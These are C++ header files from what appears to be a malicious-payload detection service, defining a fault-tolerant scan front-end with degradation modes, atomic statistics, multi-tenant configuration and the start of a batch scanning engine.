  std::size_t stream_buffer_cap = 1 << 20;
  bool keep_window_bytes = false;

  [[nodiscard]] util::Status validate() const;
};

struct ScanOutcome {
  core::Verdict verdict;
  std::uint64_t scan_id = 0;
  std::chrono::nanoseconds elapsed{0};
  /// Human-readable cause when verdict.degraded is set; empty otherwise.
  std::string degrade_reason;
};

/// Monotone counters; one reject bucket per StatusCode. The counters are
/// relaxed atomics so concurrent scans aggregate race-free; reads are
/// per-counter snapshots (no cross-counter consistency is promised while
/// scans are in flight). Copying takes a relaxed snapshot.
struct ServiceStats {
  std::atomic<std::uint64_t> scans_attempted{0};
  std::atomic<std::uint64_t> scans_completed{0};  ///< Returned a verdict.
  std::atomic<std::uint64_t> scans_degraded{0};   ///< Flagged degraded.
  std::atomic<std::uint64_t> scans_rejected{0};   ///< Typed-error returns.
  std::atomic<std::uint64_t> alarms{0};  ///< Malicious verdicts (incl. stream).
  std::array<std::atomic<std::uint64_t>, 8> rejects_by_code{};

  ServiceStats() = default;
  ServiceStats(const ServiceStats& other) noexcept { *this = other; }
  ServiceStats& operator=(const ServiceStats& other) noexcept {
    scans_attempted = other.scans_attempted.load(std::memory_order_relaxed);
    scans_completed = other.scans_completed.load(std::memory_order_relaxed);
    scans_degraded = other.scans_degraded.load(std::memory_order_relaxed);
    scans_rejected = other.scans_rejected.load(std::memory_order_relaxed);
    alarms = other.alarms.load(std::memory_order_relaxed);
    for (std::size_t i = 0; i < rejects_by_code.size(); ++i) {
      rejects_by_code[i] =
          other.rejects_by_code[i].load(std::memory_order_relaxed);
    }
    return *this;
  }

  [[nodiscard]] std::uint64_t rejects(util::StatusCode code) const noexcept {
    return rejects_by_code[static_cast<std::size_t>(code)].load(
        std::memory_order_relaxed);
  }
};

class ScanService {
 public:
  /// Validates the config; kInvalidConfig instead of clamping.
  [[nodiscard]] static util::StatusOr<ScanService> create(
      ServiceConfig config);

  /// Movable (atomics snapshot across; create()/StatusOr needs this).
  /// Moving while scans are in flight is outside the contract.
  ScanService(ScanService&& other) noexcept
      : config_(std::move(other.config_)),
        detector_(std::move(other.detector_)),
        stream_(std::move(other.stream_)),
        stats_(other.stats_),
        next_scan_id_(other.next_scan_id_.load(std::memory_order_relaxed)) {}

  /// Scans one payload under the configured limits. Returns an outcome
  /// (possibly with verdict.degraded set — check it before trusting the
  /// threshold semantics) or a typed error. Never throws. Const and
  /// thread-safe: any number of threads may scan through one service.
  [[nodiscard]] util::StatusOr<ScanOutcome> scan(util::ByteView payload) const;

  /// As above, reusing a caller-owned (per-thread) engine scratch arena —
  /// the batch hot path. Verdicts are identical bit for bit.
  [[nodiscard]] util::StatusOr<ScanOutcome> scan(
      util::ByteView payload, exec::MelScratch& scratch) const;

  /// Streaming session: feed bytes with backpressure. Alerts from
  /// budget-cut windows carry verdict.degraded.
  [[nodiscard]] util::StatusOr<std::vector<core::StreamAlert>> stream_feed(
      util::ByteView bytes);
  /// Scans the remaining tail; ends the stream session.
  std::vector<core::StreamAlert> stream_finish();

  [[nodiscard]] const ServiceStats& stats() const noexcept { return stats_; }
  [[nodiscard]] const ServiceConfig& config() const noexcept {
    return config_;
  }
  [[nodiscard]] std::uint64_t stream_windows_degraded() const noexcept {
    return stream_.windows_degraded();
  }

 private:
  explicit ScanService(ServiceConfig config);

  util::Status reject(std::uint64_t scan_id, util::Status status) const;

  ServiceConfig config_;
  core::MelDetector detector_;
  core::StreamDetector stream_;
  /// Mutable + atomic: scan() is logically const (pure verdicts) but
  /// accounts for itself; see the thread-safety contract above.
  mutable ServiceStats stats_;
  mutable std::atomic<std::uint64_t> next_scan_id_{1};
};

}  // namespace mel::service
