#pragma once
// Fault-tolerant scanning front-end around MelDetector/StreamDetector.
//
// The core detector is a pure function: payload in, verdict out. A
// production gateway needs more: per-scan deadlines and work budgets,
// payload size caps, bounded stream buffering with backpressure, and a
// defined answer for every failure mode. ScanService supplies that
// plumbing and a graceful-degradation ladder:
//
//   1. Normal: full statistical scan, verdict as from MelDetector.
//   2. Degraded: the decode budget tripped mid-scan (mel is a lower
//      bound) or parameter estimation was degenerate (no statistical
//      threshold exists) — the verdict is re-decided against the
//      configured fixed `degraded_threshold` and flagged
//      Verdict::degraded so it can never masquerade as full-fidelity.
//   3. Rejected: the request cannot be answered at all — payload over
//      the cap (kPayloadTooLarge), deadline passed (kDeadlineExceeded),
//      buffering/allocation limits (kResourceExhausted). The caller gets
//      a typed util::Status, never a crash and never a silent verdict.
//
// With no limits configured and fault injection disarmed, scan() is a
// transparent wrapper: verdicts are identical to MelDetector::scan().

#include <array>
#include <chrono>
#include <string>
#include <vector>

#include "mel/core/detector.hpp"
#include "mel/core/stream_detector.hpp"
#include "mel/util/status.hpp"

namespace mel::service {

struct ServiceConfig {
  core::DetectorConfig detector;

  /// Payloads larger than this are refused with kPayloadTooLarge
  /// (0 = unlimited).
  std::uint64_t max_payload_bytes = 0;
  /// Per-scan decode budget and wall-clock deadline (zero = unlimited).
  core::ScanBudget budget;
  /// Fixed fallback threshold for degraded verdicts. The default sits at
  /// the paper's tau for the 4K evaluation point; calibrate it like a
  /// fixed-threshold detector (it is one, on the fallback path).
  double degraded_threshold = 40.0;

  /// Stream-session knobs (ScanService::stream_feed).
  std::size_t stream_window_size = 4096;
  std::size_t stream_overlap = 1024;
  /// Hard cap on pending stream bytes; a batch that would exceed it is
  /// refused with kResourceExhausted (backpressure).
  std::size_t stream_buffer_cap = 1 << 20;
  bool keep_window_bytes = false;

  [[nodiscard]] util::Status validate() const;
};

struct ScanOutcome {
  core::Verdict verdict;
  std::uint64_t scan_id = 0;
  std::chrono::nanoseconds elapsed{0};
  /// Human-readable cause when verdict.degraded is set; empty otherwise.
  std::string degrade_reason;
};

/// Monotone counters; one reject bucket per StatusCode.
struct ServiceStats {
  std::uint64_t scans_attempted = 0;
  std::uint64_t scans_completed = 0;   ///< Returned a verdict (any rung).
  std::uint64_t scans_degraded = 0;    ///< Verdicts flagged degraded.
  std::uint64_t scans_rejected = 0;    ///< Typed-error returns.
  std::uint64_t alarms = 0;            ///< Malicious verdicts (incl. stream).
  std::array<std::uint64_t, 8> rejects_by_code{};

  [[nodiscard]] std::uint64_t rejects(util::StatusCode code) const noexcept {
    return rejects_by_code[static_cast<std::size_t>(code)];
  }
};

class ScanService {
 public:
  /// Validates the config; kInvalidConfig instead of clamping.
  [[nodiscard]] static util::StatusOr<ScanService> create(
      ServiceConfig config);

  /// Scans one payload under the configured limits. Returns an outcome
  /// (possibly with verdict.degraded set — check it before trusting the
  /// threshold semantics) or a typed error. Never throws.
  [[nodiscard]] util::StatusOr<ScanOutcome> scan(util::ByteView payload);

  /// Streaming session: feed bytes with backpressure. Alerts from
  /// budget-cut windows carry verdict.degraded.
  [[nodiscard]] util::StatusOr<std::vector<core::StreamAlert>> stream_feed(
      util::ByteView bytes);
  /// Scans the remaining tail; ends the stream session.
  std::vector<core::StreamAlert> stream_finish();

  [[nodiscard]] const ServiceStats& stats() const noexcept { return stats_; }
  [[nodiscard]] const ServiceConfig& config() const noexcept {
    return config_;
  }
  [[nodiscard]] std::uint64_t stream_windows_degraded() const noexcept {
    return stream_.windows_degraded();
  }

 private:
  explicit ScanService(ServiceConfig config);

  util::Status reject(std::uint64_t scan_id, util::Status status);

  ServiceConfig config_;
  core::MelDetector detector_;
  core::StreamDetector stream_;
  ServiceStats stats_;
  std::uint64_t next_scan_id_ = 1;
};

}  // namespace mel::service
