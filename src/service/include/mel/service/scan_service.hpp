#pragma once
// Fault-tolerant scanning front-end around MelDetector/StreamDetector.
//
// The core detector is a pure function: payload in, verdict out. A
// production gateway needs more: per-scan deadlines and work budgets,
// payload size caps, bounded stream buffering with backpressure, and a
// defined answer for every failure mode. ScanService supplies that
// plumbing and a graceful-degradation ladder:
//
//   1. Normal: full statistical scan, verdict as from MelDetector.
//   2. Degraded: the decode budget tripped mid-scan (mel is a lower
//      bound) or parameter estimation was degenerate (no statistical
//      threshold exists) — the verdict is re-decided against the
//      configured fixed `degraded_threshold` and flagged
//      Verdict::degraded so it can never masquerade as full-fidelity.
//   3. Rejected: the request cannot be answered at all — payload over
//      the cap (kPayloadTooLarge), deadline passed (kDeadlineExceeded),
//      buffering/allocation limits (kResourceExhausted). The caller gets
//      a typed util::Status, never a crash and never a silent verdict.
//
// The one public entry point is scan(ScanRequest) -> ScanReport: the
// request carries the payload plus per-call options (budget override,
// trace opt-in, scratch arena) so new options never add overloads. Every
// scan is recorded in an obs::MetricsRegistry (MEL-value and per-stage
// latency histograms, verdict / degrade-reason / status-code counters);
// pass a shared registry in ServiceConfig::metrics to aggregate several
// services, or let each service own one. All non-latency series are
// sums of values derived from (payload, config) alone, so a parallel
// batch snapshot equals the sequential snapshot bit for bit.
//
// With no limits configured and fault injection disarmed, scan() is a
// transparent wrapper: verdicts are identical to MelDetector::scan().
//
// Thread-safety contract: scan() is const and safe to call from any
// number of threads on one ScanService — the detector is immutable, the
// stats counters are atomics, metric updates go through the registry's
// lock shards, and scan ids come from an atomic counter
// (BatchScanService fans a shared instance across its pool). The stream
// session (stream_feed/stream_finish) is stateful by nature — one
// logical byte stream — and requires external serialization per service
// instance.

#include <array>
#include <atomic>
#include <chrono>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "mel/core/detector.hpp"
#include "mel/core/stream_detector.hpp"
#include "mel/obs/metrics.hpp"
#include "mel/obs/trace.hpp"
#include "mel/persist/drift_monitor.hpp"
#include "mel/persist/verdict_cache.hpp"
#include "mel/service/resilience.hpp"
#include "mel/service/tenant.hpp"
#include "mel/util/hot_swap.hpp"
#include "mel/util/status.hpp"

namespace mel::service {

/// Architectural payload ceiling (4 GiB), enforced ahead of the
/// configurable ServiceConfig::max_payload_bytes. Requests beyond it are
/// malformed (kInvalidArgument): the estimation pipeline and the O(n)
/// engine tables are not sized for them on any deployment.
inline constexpr std::uint64_t kAbsoluteMaxPayloadBytes =
    std::uint64_t{4} << 30;

struct ServiceConfig {
  core::DetectorConfig detector;

  /// Payloads larger than this are refused with kPayloadTooLarge
  /// (0 = unlimited).
  std::uint64_t max_payload_bytes = 0;
  /// Per-scan decode budget and wall-clock deadline (zero = unlimited).
  /// A ScanRequest::budget overrides this per call.
  core::ScanBudget budget;
  /// Fixed fallback threshold for degraded verdicts. The default sits at
  /// the paper's tau for the 4K evaluation point; calibrate it like a
  /// fixed-threshold detector (it is one, on the fallback path).
  double degraded_threshold = 40.0;

  /// Stream-session knobs (ScanService::stream_feed). Field names match
  /// core::StreamConfig one for one.
  std::size_t window_size = 4096;
  std::size_t overlap = 1024;
  /// Hard cap on pending stream bytes; a batch that would exceed it is
  /// refused with kResourceExhausted (backpressure).
  std::size_t max_buffered_bytes = 1 << 20;
  bool keep_window_bytes = false;

  /// Overload shedding ahead of every scan: token-bucket rate limit,
  /// concurrency cap, queue-depth shedding. Default: everything
  /// disabled, every request admitted (pre-resilience behavior).
  AdmissionConfig admission;
  /// Failure-rate circuit breaker on the scan path. Default: disabled.
  CircuitBreakerConfig breaker;

  /// Registry receiving this service's metric series. Null (default):
  /// the service creates and owns a private registry, reachable via
  /// ScanService::metrics(). Share one registry across services (and the
  /// batch tier) to aggregate them into one scrape.
  std::shared_ptr<obs::MetricsRegistry> metrics;

  /// Content-addressed verdict cache consulted ahead of the detector.
  /// Null (default): every scan computes. A hit returns the cached
  /// verdict — bit-identical to what a fresh scan would produce, because
  /// only clean full-fidelity verdicts (not degraded, not under a
  /// per-request budget override) are admitted, and entries are
  /// invalidated on every calibration change via the epoch. Hit/miss
  /// ORDER is schedule-dependent under the parallel batch tier (two
  /// workers may both miss on the same payload), so mel_cache_* series
  /// are excluded from the parallel==sequential determinism contract;
  /// every verdict-derived series still holds it. Note: a cache hit
  /// skips the detector-path fault checkpoints, so chaos suites with
  /// armed triggers should leave the cache null.
  std::shared_ptr<persist::VerdictCache> verdict_cache;
  /// Online drift monitor fed every successfully scanned payload.
  /// Null (default): no drift tracking. Wire its on_drift through a
  /// persist::StateManager to apply_calibration for the full
  /// detect-recalibrate-invalidate-snapshot loop.
  std::shared_ptr<persist::DriftMonitor> drift_monitor;

  /// Tenant declarations (the ScanRequest v2 tenant scope). Each
  /// service builds its own TenantRegistry from this vector — the
  /// shared-nothing discipline for sharded front-ends. Empty (default):
  /// only kDefaultTenant is served; any other ScanRequest::tenant is a
  /// kInvalidArgument.
  std::vector<TenantConfig> tenants;

  [[nodiscard]] util::Status validate() const;
};

/// One scan call: the payload plus per-call options. Non-owning views —
/// payload bytes and the scratch arena must outlive the scan() call.
struct ScanRequest {
  util::ByteView payload = {};
  /// Tenant scope for this scan (the v2 API). kDefaultTenant uses the
  /// service defaults; any other id must name a ServiceConfig::tenants
  /// entry, whose detector/threshold overrides and admission quota
  /// apply. Unknown ids are refused with kInvalidArgument.
  TenantId tenant = kDefaultTenant;
  /// Overrides ServiceConfig::budget for this scan when set.
  std::optional<core::ScanBudget> budget = std::nullopt;
  /// Copy the per-stage trace spans into ScanReport::trace. Latency
  /// histograms are recorded either way; this adds the per-scan copy.
  bool collect_trace = false;
  /// Caller-owned (per-thread) engine scratch arena — the batch hot
  /// path. Null: the scan allocates its own. Must not be shared between
  /// concurrent scans.
  exec::MelScratch* scratch = nullptr;
  /// Deterministic fault-injection scope for this scan (batch item
  /// index). When set, armed fault triggers fire as a pure function of
  /// (trigger, sequence) — bit-identical at any worker count or
  /// interleaving. Unset: triggers draw from the legacy global streams.
  std::optional<std::uint64_t> fault_sequence = std::nullopt;
  /// Precomputed content fingerprint of `payload` — the un-salted
  /// 128-bit VerdictCache key from persist::fingerprint_payload. The
  /// network front-end hashes every payload once for its supervision
  /// and quarantine bookkeeping and passes the result down here so the
  /// cache path does not hash the same bytes a second time. Null: the
  /// service computes one when the cache needs it. When set it MUST
  /// equal fingerprint_payload(payload).
  const persist::Fingerprint* content_fingerprint = nullptr;
};

struct ScanReport {
  core::Verdict verdict;
  std::uint64_t scan_id = 0;
  std::chrono::nanoseconds elapsed{0};
  /// Content fingerprint of the scanned bytes (the un-salted cache
  /// key), exported for supervision/quarantine bookkeeping. Filled when
  /// the request supplied one or the cache path computed one; all-zero
  /// otherwise.
  persist::Fingerprint content_fingerprint{};
  /// Human-readable cause when verdict.degraded is set; empty otherwise.
  std::string degrade_reason;
  /// Per-stage spans; filled only when ScanRequest::collect_trace.
  std::vector<obs::TraceSpan> trace;

  /// Total nanoseconds recorded against `stage` in `trace` (0 when the
  /// stage never ran or the trace was not collected).
  [[nodiscard]] std::int64_t stage_ns(obs::Stage stage) const noexcept {
    std::int64_t total = 0;
    for (const obs::TraceSpan& span : trace) {
      if (span.stage == stage) total += span.duration_ns();
    }
    return total;
  }
};

/// Monotone counters; one reject bucket per StatusCode. The counters are
/// relaxed atomics so concurrent scans aggregate race-free; reads are
/// per-counter snapshots (no cross-counter consistency is promised while
/// scans are in flight). Copying takes a relaxed snapshot. Kept for
/// in-process callers; the metrics registry carries the same aggregates
/// (and more) for export.
struct ServiceStats {
  std::atomic<std::uint64_t> scans_attempted{0};
  std::atomic<std::uint64_t> scans_completed{0};  ///< Returned a verdict.
  std::atomic<std::uint64_t> scans_degraded{0};   ///< Flagged degraded.
  std::atomic<std::uint64_t> scans_rejected{0};   ///< Typed-error returns.
  std::atomic<std::uint64_t> alarms{0};  ///< Malicious verdicts (incl. stream).
  std::array<std::atomic<std::uint64_t>, util::kStatusCodeCount>
      rejects_by_code{};

  ServiceStats() = default;
  ServiceStats(const ServiceStats& other) noexcept { *this = other; }
  ServiceStats& operator=(const ServiceStats& other) noexcept {
    scans_attempted = other.scans_attempted.load(std::memory_order_relaxed);
    scans_completed = other.scans_completed.load(std::memory_order_relaxed);
    scans_degraded = other.scans_degraded.load(std::memory_order_relaxed);
    scans_rejected = other.scans_rejected.load(std::memory_order_relaxed);
    alarms = other.alarms.load(std::memory_order_relaxed);
    for (std::size_t i = 0; i < rejects_by_code.size(); ++i) {
      rejects_by_code[i] =
          other.rejects_by_code[i].load(std::memory_order_relaxed);
    }
    return *this;
  }

  [[nodiscard]] std::uint64_t rejects(util::StatusCode code) const noexcept {
    return rejects_by_code[static_cast<std::size_t>(code)].load(
        std::memory_order_relaxed);
  }
};

class ScanService {
 public:
  /// Validates the config; kInvalidConfig instead of clamping.
  [[nodiscard]] static util::StatusOr<ScanService> create(
      ServiceConfig config);

  /// Movable (atomics snapshot across; create()/StatusOr needs this).
  /// Moving while scans are in flight is outside the contract.
  ScanService(ScanService&& other) noexcept
      : config_(std::move(other.config_)),
        detector_(other.detector_.load()),
        stream_(std::move(other.stream_)),
        stats_(other.stats_),
        next_scan_id_(other.next_scan_id_.load(std::memory_order_relaxed)),
        metrics_(std::move(other.metrics_)),
        tenants_(std::move(other.tenants_)),
        inst_(other.inst_),
        admission_(std::move(other.admission_)),
        breaker_(std::move(other.breaker_)),
        lifecycle_(other.lifecycle_.load(std::memory_order_relaxed)) {}

  /// THE scan entry point: scans request.payload under the configured
  /// (or per-request) limits. Returns a report (check
  /// verdict.degraded before trusting the threshold semantics) or a
  /// typed error. Never throws. Const and thread-safe: any number of
  /// threads may scan through one service.
  [[nodiscard]] util::StatusOr<ScanReport> scan(
      const ScanRequest& request) const;

  /// Admission gate for degraded answers produced OUTSIDE the scan path
  /// (the network front-end's brownout screen floor): resolves `tenant`
  /// and runs the same pre-scan gates scan() would — unknown-tenant
  /// refusal (identical typed error), service-wide admission, lifecycle,
  /// per-tenant quota — so an overload-triggered screen verdict can
  /// never bypass tenant isolation or the shed ladder. kOk means the
  /// request would have been admitted; concurrency permits are released
  /// on return (a screen answers immediately) but rate/quota tokens
  /// stay spent. The circuit breaker is NOT consulted: it measures
  /// scan-path health, which a screen answer does not ride.
  [[nodiscard]] util::Status admit_screened(TenantId tenant) const;

  /// Streaming session: feed bytes with backpressure. Alerts from
  /// budget-cut windows carry verdict.degraded.
  [[nodiscard]] util::StatusOr<std::vector<core::StreamAlert>> stream_feed(
      util::ByteView bytes);
  /// Scans the remaining tail; ends the stream session.
  std::vector<core::StreamAlert> stream_finish();

  [[nodiscard]] const ServiceStats& stats() const noexcept { return stats_; }
  [[nodiscard]] const ServiceConfig& config() const noexcept {
    return config_;
  }
  /// The registry this service records into (shared or privately owned).
  [[nodiscard]] obs::MetricsRegistry& metrics() const noexcept {
    return *metrics_;
  }
  /// Point-in-time merged view of metrics(); see obs::MetricsSnapshot.
  [[nodiscard]] obs::MetricsSnapshot metrics_snapshot() const {
    return metrics_->snapshot();
  }
  [[nodiscard]] std::uint64_t stream_windows_degraded() const noexcept {
    return stream_.windows_degraded();
  }
  [[nodiscard]] const core::StreamDetector& stream() const noexcept {
    return stream_;
  }

  /// Health/lifecycle of this service. Folds the breaker in: a serving
  /// service whose breaker is open or probing reports kDegraded.
  [[nodiscard]] ServiceState state() const noexcept;
  /// Graceful shutdown: refuses new scans with kUnavailable, waits for
  /// every in-flight scan to finish (their verdicts are delivered, not
  /// dropped), then flushes the stream session's buffered tail and
  /// returns its final alerts. Idempotent; the service ends kStopped.
  std::vector<core::StreamAlert> drain();

  [[nodiscard]] const AdmissionController& admission() const noexcept {
    return admission_;
  }
  [[nodiscard]] const CircuitBreaker& breaker() const noexcept {
    return breaker_;
  }
  /// Queue-depth signal for AdmissionConfig::max_queue_depth (the batch
  /// tier wires its pool's queue here). Set before serving traffic.
  void set_queue_depth_probe(std::function<std::size_t()> probe) {
    admission_.set_queue_depth_probe(std::move(probe));
  }

  /// Hot-swaps the serving detector to a new calibration without a
  /// restart: validates `config`, builds the replacement detector, and
  /// publishes it atomically — scans in flight finish on the detector
  /// they loaded; scans admitted after the swap use the new one. This is
  /// the StateManager's apply-calibration hook target (tau is logged;
  /// the detector re-derives tau per payload from the new config).
  /// kInvalidConfig rejects leave the serving detector untouched.
  /// Scope: payload scans only — the stream session and config() keep
  /// their construction-time calibration (a stream mid-flight changing
  /// thresholds would make its alerts unattributable).
  [[nodiscard]] util::Status apply_calibration(
      const core::DetectorConfig& config, double tau);

  /// Tenant-scoped form: swaps only `tenant`'s serving detector.
  /// kDefaultTenant forwards to the service-wide overload above;
  /// unknown ids are kInvalidArgument, invalid configs kInvalidConfig
  /// (the old detector keeps serving either way).
  [[nodiscard]] util::Status apply_calibration(
      TenantId tenant, const core::DetectorConfig& config, double tau);

  /// The tenant table built from ServiceConfig::tenants (empty registry
  /// when none were configured). Lookups are lock-free; see tenant.hpp.
  [[nodiscard]] const TenantRegistry& tenants() const noexcept {
    return *tenants_;
  }

  /// The detector currently serving scans (construction config until the
  /// first apply_calibration).
  [[nodiscard]] std::shared_ptr<const core::MelDetector> detector() const {
    return detector_.load();
  }

 private:
  explicit ScanService(ServiceConfig config);

  /// Copyable bundle of metric handles, so the move ctor stays one line.
  /// All registered at construction; updates are handle-local.
  struct Instruments {
    obs::Counter attempted;
    obs::Counter completed;
    obs::Counter rejected;
    obs::Counter degraded;
    std::array<obs::Counter, util::kStatusCodeCount> by_status;
    obs::Counter reason_budget;
    obs::Counter reason_estimation;
    obs::Counter reason_truncated;
    obs::Counter verdict_malicious;
    obs::Counter verdict_benign;
    /// Per-item retry attempts. Registered here so sequential and batch
    /// registries carry identical series; incremented by the batch tier.
    obs::Counter retries;
    obs::Histogram mel;
    std::array<obs::Histogram, obs::kStageCount> stage_latency;
    obs::Histogram latency;
  };

  void register_instruments();
  util::Status reject(std::uint64_t scan_id, util::Status status) const;
  util::Status reject(std::uint64_t scan_id, util::Status status,
                      const TenantEntry* tenant) const;
  /// The scan body, after the lifecycle/admission/breaker/tenant gates.
  /// `tenant` is null for kDefaultTenant requests.
  util::StatusOr<ScanReport> scan_admitted(
      const ScanRequest& request, std::uint64_t scan_id,
      std::chrono::steady_clock::time_point start,
      const TenantEntry* tenant) const;

  ServiceConfig config_;
  /// Hot-swappable so apply_calibration() can replace the serving
  /// detector under live traffic (scans load once and keep their copy).
  util::HotSwapPtr<const core::MelDetector> detector_;
  core::StreamDetector stream_;
  /// Mutable + atomic: scan() is logically const (pure verdicts) but
  /// accounts for itself; see the thread-safety contract above.
  mutable ServiceStats stats_;
  mutable std::atomic<std::uint64_t> next_scan_id_{1};
  std::shared_ptr<obs::MetricsRegistry> metrics_;
  /// Built from config_.tenants at construction; never null (an empty
  /// registry when no tenants are declared).
  std::shared_ptr<TenantRegistry> tenants_;
  Instruments inst_;
  mutable AdmissionController admission_;
  mutable CircuitBreaker breaker_;
  /// Stores only kStarting/kServing/kDraining/kStopped; kDegraded is
  /// computed from the breaker in state().
  std::atomic<ServiceState> lifecycle_{ServiceState::kStarting};
};

}  // namespace mel::service
