#pragma once
// Tenant scoping for the scan tiers (the ScanRequest v2 API).
//
// A multi-tenant deployment runs one scan front-end for many customers,
// each with its own false-positive budget (DetectorConfig/tau), its own
// admission quota, its own metric series and its own durable calibration
// state. The pieces:
//
//   * TenantId      — the wire-visible tenant key. kDefaultTenant (0)
//                     is the service itself: requests that carry it use
//                     the ServiceConfig defaults and need no registry
//                     entry.
//   * TenantConfig  — declarative per-tenant settings: an optional
//                     DetectorConfig override, an optional degraded-mode
//                     threshold, a PR-4 AdmissionConfig token bucket,
//                     and a snapshot path for a per-tenant
//                     persist::StateManager.
//   * TenantRegistry— the runtime table built from a vector of
//                     TenantConfig at service construction. The id ->
//                     entry map is immutable after create() (lock-free
//                     lookups on the scan path); per-entry runtime state
//                     (serving detector, token bucket, counters) is
//                     internally synchronized.
//
// Shared-nothing discipline: a TenantRegistry is cheap to instantiate,
// so each shard of the network front-end builds its OWN registry from
// the same TenantConfig vector — tenant token buckets then never cross
// shard boundaries (quotas are enforced per shard; the server divides
// the configured rates by the shard count so the aggregate matches).
//
// Metric labels: every tenant entry registers
// mel_tenant_*_total{tenant="<name>"} series on the service registry, so
// one scrape breaks traffic down by tenant without per-tenant scrapes.

#include <atomic>
#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "mel/core/detector.hpp"
#include "mel/obs/metrics.hpp"
#include "mel/service/resilience.hpp"
#include "mel/util/hot_swap.hpp"
#include "mel/util/status.hpp"

namespace mel::service {

/// Wire-visible tenant key (rides in every frame header).
using TenantId = std::uint32_t;

/// The service's own identity: requests carrying it use the
/// ServiceConfig defaults and bypass the registry entirely.
inline constexpr TenantId kDefaultTenant = 0;

/// Declarative per-tenant settings. Value type: the same vector of
/// configs seeds every shard's private registry.
struct TenantConfig {
  /// Must be != kDefaultTenant and unique across the registry.
  TenantId id = kDefaultTenant;
  /// Metric label value and log handle. Lowercase [a-z0-9_-], 1..64
  /// chars, unique across the registry (label-injection-proof by
  /// construction: no quotes, newlines or backslashes can appear).
  std::string name;
  /// Detector override: this tenant's scans use a detector built from
  /// it instead of ServiceConfig::detector. Absent: service default.
  std::optional<core::DetectorConfig> detector;
  /// Per-tenant fallback threshold for degraded verdicts. Absent:
  /// ServiceConfig::degraded_threshold.
  std::optional<double> degraded_threshold;
  /// Per-tenant admission quota (token bucket / concurrency / queue
  /// depth), checked AFTER the service-wide admission gate. Default:
  /// everything disabled — the tenant rides the service-wide limits.
  AdmissionConfig admission;
  /// Snapshot path for this tenant's persist::StateManager, so its
  /// calibration survives restarts independently of every other
  /// tenant's. Empty: no per-tenant durable state. (The service layer
  /// stores the path; the owner — e.g. net::MelServer — instantiates
  /// the StateManager, because persist sits below service.)
  std::string snapshot_path;

  /// kInvalidConfig on any violation; detector overrides are routed
  /// through core::DetectorConfig::validate.
  [[nodiscard]] util::Status validate() const;
};

/// True when `name` is usable as a tenant metric label value.
[[nodiscard]] bool is_valid_tenant_name(const std::string& name) noexcept;

/// Runtime state for one tenant. The struct layout is an implementation
/// detail of ScanService/TenantRegistry; tests reach it through the
/// registry's lookup for assertions only.
class TenantEntry {
 public:
  explicit TenantEntry(TenantConfig config);

  [[nodiscard]] const TenantConfig& config() const noexcept {
    return config_;
  }
  /// The tenant's serving detector; null means "use the service
  /// default". Swapped atomically by apply_calibration.
  [[nodiscard]] std::shared_ptr<const core::MelDetector> detector() const {
    return detector_.load();
  }
  [[nodiscard]] AdmissionController& admission() const noexcept {
    return admission_;
  }

  /// Monotone per-tenant totals (relaxed snapshots), mirrored to the
  /// mel_tenant_* metric series when bind_metrics was called.
  [[nodiscard]] std::uint64_t scans() const noexcept {
    return scans_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t completed() const noexcept {
    return completed_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t rejected() const noexcept {
    return rejected_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t shed() const noexcept {
    return shed_.load(std::memory_order_relaxed);
  }
  [[nodiscard]] std::uint64_t alarms() const noexcept {
    return alarms_.load(std::memory_order_relaxed);
  }

 private:
  friend class TenantRegistry;
  friend class ScanService;

  void record_scan() const noexcept {
    scans_.fetch_add(1, std::memory_order_relaxed);
    scans_counter_.inc();
  }
  void record_completed(bool malicious) const noexcept {
    completed_.fetch_add(1, std::memory_order_relaxed);
    completed_counter_.inc();
    if (malicious) {
      alarms_.fetch_add(1, std::memory_order_relaxed);
      malicious_counter_.inc();
    } else {
      benign_counter_.inc();
    }
  }
  void record_rejected() const noexcept {
    rejected_.fetch_add(1, std::memory_order_relaxed);
    rejected_counter_.inc();
  }
  void record_shed() const noexcept {
    shed_.fetch_add(1, std::memory_order_relaxed);
    shed_counter_.inc();
  }

  TenantConfig config_;
  /// Null when the tenant has no detector override AND no calibration
  /// has been applied; the scan path then uses the service detector.
  util::HotSwapPtr<const core::MelDetector> detector_;
  mutable AdmissionController admission_;

  mutable std::atomic<std::uint64_t> scans_{0};
  mutable std::atomic<std::uint64_t> completed_{0};
  mutable std::atomic<std::uint64_t> rejected_{0};
  mutable std::atomic<std::uint64_t> shed_{0};
  mutable std::atomic<std::uint64_t> alarms_{0};

  obs::Counter scans_counter_;
  obs::Counter completed_counter_;
  obs::Counter rejected_counter_;
  obs::Counter shed_counter_;
  obs::Counter malicious_counter_;
  obs::Counter benign_counter_;
};

/// Immutable id -> TenantEntry table; see the header comment for the
/// concurrency and shared-nothing story.
class TenantRegistry {
 public:
  /// Validates every config (unique ids and names, no kDefaultTenant
  /// entry, detector overrides through DetectorConfig::validate) and
  /// builds the runtime entries — including each override's detector,
  /// so a bad override is a construction-time kInvalidConfig, never a
  /// scan-time surprise.
  [[nodiscard]] static util::StatusOr<std::shared_ptr<TenantRegistry>> create(
      std::vector<TenantConfig> configs);

  /// Lock-free lookup; nullptr for unknown ids (and for kDefaultTenant,
  /// which by contract has no entry).
  [[nodiscard]] const TenantEntry* find(TenantId id) const noexcept;

  [[nodiscard]] std::size_t size() const noexcept { return entries_.size(); }
  /// Entries in the order the configs were given (for iteration in
  /// servers/tests).
  [[nodiscard]] const std::vector<TenantEntry*>& entries() const noexcept {
    return ordered_;
  }

  /// Registers mel_tenant_*_total{tenant="<name>"} series for every
  /// entry plus the per-tenant admission controllers. Call once before
  /// traffic (ScanService does this at construction).
  void bind_metrics(obs::MetricsRegistry& registry);

  /// Swaps `tenant`'s serving detector to a new calibration; validated
  /// via MelDetector::create, kInvalidConfig leaves the old detector
  /// serving. kInvalidArgument for unknown tenants.
  [[nodiscard]] util::Status apply_calibration(
      TenantId tenant, const core::DetectorConfig& config, double tau);

 private:
  TenantRegistry() = default;

  std::unordered_map<TenantId, std::unique_ptr<TenantEntry>> entries_;
  std::vector<TenantEntry*> ordered_;
};

}  // namespace mel::service
