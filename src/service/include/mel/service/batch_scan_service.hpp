#pragma once
// Parallel batch scan engine: fans a vector of payloads across a
// util::ThreadPool and returns results in input order.
//
// The DAWN deployment scenario scans every message of a live mail/web
// stream; one core cannot keep up with gateway traffic. BatchScanService
// multiplies the fault-tolerant ScanService across workers while keeping
